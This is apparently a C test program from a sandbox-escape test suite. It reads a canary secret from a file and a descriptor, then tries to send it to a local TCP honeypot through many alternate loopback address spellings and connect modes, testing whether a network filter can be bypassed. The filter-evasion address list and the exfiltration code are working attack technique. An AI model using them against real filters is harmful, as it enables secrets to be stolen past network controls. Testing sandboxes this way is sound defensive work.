/* net.tcp.loopback_forms — catalog N01/N07/N06.
 * Reverse-shell style TCP exfiltration to the host's TCP honeypot, through every spelling of loopback an
 * attacker would try when a filter only knows "127.0.0.1": 127.1, 127.0.0.2 (any 127/8 address is local),
 * 0.0.0.0 (Linux routes it to the local host), 2130706433 (decimal), the v4-mapped ::ffff:127.0.0.1 on an
 * AF_INET6 socket, ::1 for the v6 honeypot, plus non-blocking connect and TCP Fast Open (sendto with
 * MSG_FASTOPEN, which connects and sends in one call). Each connection sends a payload with the nonce and
 * whatever the attack could read of the canary (file and descriptor), so the honeypot and canary oracles
 * both see it. Args: tcp_port tcp6_port nonce canary_file canary_fd */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

static char payload[4096];
static size_t payload_len;

static void build_payload(const char *nonce, const char *canary_file, int canary_fd) {
    payload_len = (size_t)snprintf(payload, sizeof payload, "gauntlet-%s tcp exfil:", nonce);
    int fd = open(canary_file, O_RDONLY);
    if (fd >= 0) {
        ssize_t n = read(fd, payload + payload_len, 1024);
        if (n > 0) payload_len += (size_t)n;
        close(fd);
        printf("read canary file: yes\n");
    } else {
        printf("read canary file: %s\n", strerror(errno));
    }
    char b[1024];
    ssize_t n = pread(canary_fd, b, sizeof b, 0);
    if (n > 0 && payload_len + (size_t)n < sizeof payload) {
        memcpy(payload + payload_len, b, (size_t)n);
        payload_len += (size_t)n;
        printf("read canary fd %d: yes\n", canary_fd);
    }
}

static void try_addr(const char *label, int family, const struct sockaddr *sa, socklen_t len, int mode) {
    int s = socket(family, SOCK_STREAM | SOCK_CLOEXEC | (mode == 1 ? SOCK_NONBLOCK : 0), 0);
    if (s < 0) {
        printf("%-28s socket: %s\n", label, strerror(errno));
        return;
    }
    int r;
    if (mode == 2) {
        r = (int)sendto(s, payload, payload_len, MSG_FASTOPEN | MSG_NOSIGNAL, sa, len);
        printf("%-28s sendto(MSG_FASTOPEN): %s\n", label, r >= 0 ? "SENT" : strerror(errno));
        close(s);
        return;
    }
    r = connect(s, sa, len);
    if (r < 0 && errno == EINPROGRESS) {
        struct pollfd p = {.fd = s, .events = POLLOUT};
        if (poll(&p, 1, 300) == 1) {
            int err = 0;
            socklen_t el = sizeof err;
            getsockopt(s, SOL_SOCKET, SO_ERROR, &err, &el);
            errno = err;
            r = err ? -1 : 0;
        } else {
            errno = ETIMEDOUT;
        }
    }
    if (r == 0) {
        ssize_t w = send(s, payload, payload_len, MSG_NOSIGNAL);
        printf("%-28s CONNECTED, sent %zd bytes\n", label, w);
    } else {
        printf("%-28s connect: %s\n", label, strerror(errno));
    }
    close(s);
}

int main(int argc, char **argv) {
    if (argc < 6) {
        fprintf(stderr, "usage: tcp_port tcp6_port nonce canary_file canary_fd\n");
        return 0;
    }
    int port = atoi(argv[1]), port6 = atoi(argv[2]);
    build_payload(argv[3], argv[4], atoi(argv[5]));
    setvbuf(stdout, NULL, _IOLBF, 0);

    const char *v4[] = {"127.0.0.1", "127.1", "127.0.0.2", "127.255.255.254", "0.0.0.0", "0", "2130706433",
                        "0x7f000001", "0177.0.0.1"};
    for (size_t i = 0; i < sizeof v4 / sizeof v4[0]; i++) {
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
        if (!inet_aton(v4[i], &a.sin_addr)) continue; /* inet_aton accepts the short/decimal/octal forms */
        for (int mode = 0; mode < 3; mode++) {
            char label[64];
            snprintf(label, sizeof label, "%s:%d%s", v4[i], port, mode == 1 ? " (nonblock)" : mode == 2 ? " (TFO)" : "");
            try_addr(label, AF_INET, (struct sockaddr *)&a, sizeof a, mode);
        }
    }
    /* v4-mapped and v4-compatible on AF_INET6 sockets */
    const char *v6[] = {"::ffff:127.0.0.1", "::ffff:127.0.0.2", "::ffff:0.0.0.0", "::127.0.0.1"};
    for (size_t i = 0; i < sizeof v6 / sizeof v6[0]; i++) {
        struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port)};
        inet_pton(AF_INET6, v6[i], &a.sin6_addr);
        for (int mode = 0; mode < 3; mode++) {
            char label[64];
            snprintf(label, sizeof label, "[%s]:%d%s", v6[i], port, mode == 1 ? " (nonblock)" : mode == 2 ? " (TFO)" : "");
            try_addr(label, AF_INET6, (struct sockaddr *)&a, sizeof a, mode);
        }
    }
    /* the v6 honeypot: ::1, the unspecified address ::, and link-local on lo */
    const char *v6b[] = {"::1", "::", "fe80::1"};
    for (size_t i = 0; i < sizeof v6b / sizeof v6b[0]; i++) {
        struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port6)};
        inet_pton(AF_INET6, v6b[i], &a.sin6_addr);
        if (i == 2) a.sin6_scope_id = 1; /* lo is ifindex 1 in every netns */
        for (int mode = 0; mode < 3; mode++) {
            char label[64];
            snprintf(label, sizeof label, "[%s]:%d%s", v6b[i], port6, mode == 1 ? " (nonblock)" : mode == 2 ? " (TFO)" : "");
            try_addr(label, AF_INET6, (struct sockaddr *)&a, sizeof a, mode);
        }
    }
    printf("done\n");
    return 0;
}
